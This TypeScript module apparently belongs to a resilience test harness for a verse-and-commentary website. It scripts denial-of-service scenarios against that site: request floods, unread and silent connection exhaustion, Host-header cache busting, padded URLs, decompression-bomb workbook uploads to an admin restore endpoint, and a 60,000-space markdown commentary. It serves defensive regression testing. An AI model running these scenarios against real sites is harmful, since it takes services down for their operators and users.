import { setTimeout } from 'node:timers/promises'
import { workbookType } from '#shared/contract/backup-endpoints.ts'
import { signIn } from './editor-client.ts'
import { holdConnections } from './hostile-connections.ts'
import { hostileWorkbooks } from './hostile-workbooks.ts'
import { offerLoad } from './load-client.ts'

export type Attack = {
  readonly title: string
  /** Whether PUBLIC_URL is set. Without it, each `Host` gets separate pages. */
  readonly hasPublicUrl?: boolean
  /** Resolves to the number of requests or connections. */
  readonly run: (url: string, seconds: number) => Promise<number>
}

/** More than any site can serve, so each connection sends the next request as soon as it has its response. */
const perSecond = 1_000_000

type Flood = { readonly connections: number; readonly toPath: (at: number) => string; readonly headers?: string }

/** `headers` may contain `{at}`, which stands for the number of the request. */
function askInTurn({ connections, toPath, headers = '' }: Flood): Attack['run'] {
  return async (url, seconds) => {
    const state = { at: 0 }
    const nextPath = () => toPath(state.at++)
    const toHead = (path: string, host: string) => {
      const given = headers.replaceAll('{at}', String(state.at))
      return `GET ${path} HTTP/1.1\r\n${given.includes('Host:') ? '' : `Host: ${host}\r\n`}${given}`
    }
    return (await offerLoad({ url, perSecond, seconds, connections, nextPath, toHead })).length
  }
}

/** Clients that send one request each, on separate connections, and never read. */
function neverRead(connections: number, toPath: (at: number) => string): Attack['run'] {
  const toRequest = (at: number) => `GET ${toPath(at)} HTTP/1.1\r\nHost: localhost\r\n\r\n`
  return (url, seconds) => holdConnections({ url, seconds, connections, toRequest, unread: true })
}

const gzip = 'Accept-Encoding: gzip\r\n'
const padding = '&'.repeat(15_600)
const frequentWords = ['الله', 'من', 'the', 'и', 've']
const headRequest = 'HEAD /en HTTP/1.1\r\nHost: localhost\r\n\r\n'

function toHighlightPath(at: number): string {
  const word = frequentWords[at % frequentWords.length] ?? ''
  return `/api/verse?q=${encodeURIComponent(word)}&limit=1000&highlight=true&skip=${at % 500}`
}

/** Attacks that once stopped the site, by strangers or by someone with a stolen session. */
export const attacks = {
  none: { title: 'no attack', run: async (_url, seconds) => await setTimeout(seconds * 1000, 0) },
  corpus: {
    title: 'whole corpus without Accept-Encoding, 300 clients',
    run: askInTurn({ connections: 300, toPath: () => '/api/corpus/ar' }),
  },
  sitemap: {
    title: 'sitemap without Accept-Encoding, 500 clients',
    run: askInTurn({ connections: 500, toPath: () => '/sitemaps/en.xml' }),
  },
  unreadSitemap: {
    title: 'sitemap unread, 1,000 clients',
    run: neverRead(1000, () => '/sitemaps/en.xml'),
  },
  hosts: {
    title: 'sitemap for a new Host each time, 500 clients',
    hasPublicUrl: false,
    run: askInTurn({ connections: 500, toPath: () => '/sitemaps/en.xml', headers: `Host: h{at}.example\r\n${gzip}` }),
  },
  unreadReads: {
    title: 'large reads with different URLs, unread, 1,000 clients',
    run: neverRead(1000, (at) => `/api/verse?limit=1000&skip=${at % 5000}`),
  },
  padding: {
    title: 'small reads padded to 15.6 kB, 16 clients',
    run: askInTurn({ connections: 16, toPath: (at) => `/api/verse?select=_id&limit=1&skip=${at}${padding}` }),
  },
  shortPadding: {
    title: 'small reads with URLs just short enough to be cached, 16 clients',
    run: askInTurn({
      connections: 16,
      toPath: (at) => `/api/verse?select=_id&limit=1&skip=${at}${padding}`.slice(0, 1000),
    }),
  },
  highlights: {
    title: 'highlights of frequent words, 8 clients',
    run: askInTurn({ connections: 8, toPath: toHighlightPath }),
  },
  keptConnections: {
    title: '4,096 keep-alive connections from one address',
    run: (url, seconds) =>
      holdConnections({ url, seconds, connections: 4096, toRequest: () => headRequest, againMs: 6000 }),
  },
  silentConnections: {
    title: '4,096 silent connections from one address',
    run: (url, seconds) => holdConnections({ url, seconds, connections: 4096, toRequest: () => '' }),
  },
  workbooks: { title: 'workbooks that unpack to 90 MB, one after another', run: uploadWorkbooks },
  markdown: { title: 'a commentary of 60,000 spaces, 4 readers', run: readCommentary },
} as const satisfies Record<string, Attack>

export type AttackName = keyof typeof attacks

async function uploadWorkbooks(url: string, seconds: number): Promise<number> {
  const editor = await signIn(url)
  const made: Uint8Array[] = []
  const state = { count: 0, sendingMs: 0 }
  while (state.sendingMs < seconds * 1000) {
    const at = state.count++ % hostileWorkbooks.length
    const body = made[at] ?? (await hostileWorkbooks[at]?.())
    if (body) made[at] = body
    const startedAt = performance.now()
    await editor.send(url, { method: 'POST', path: '/api/admin/restore', body, type: workbookType })
    state.sendingMs += performance.now() - startedAt
  }
  return state.count
}

async function readCommentary(url: string, seconds: number): Promise<number> {
  const editor = await signIn(url)
  const opinionEn = `[a](${' '.repeat(60_000)}x`
  const { status } = await editor.send(url, { method: 'PUT', path: '/api/verse/2:254', body: { opinionEn } })
  if (status !== 200) throw new Error(`Saving the commentary returned ${status}`)
  return await askInTurn({ connections: 4, toPath: (at) => `/en/verse/2:254?x=${at}` })(url, seconds)
}
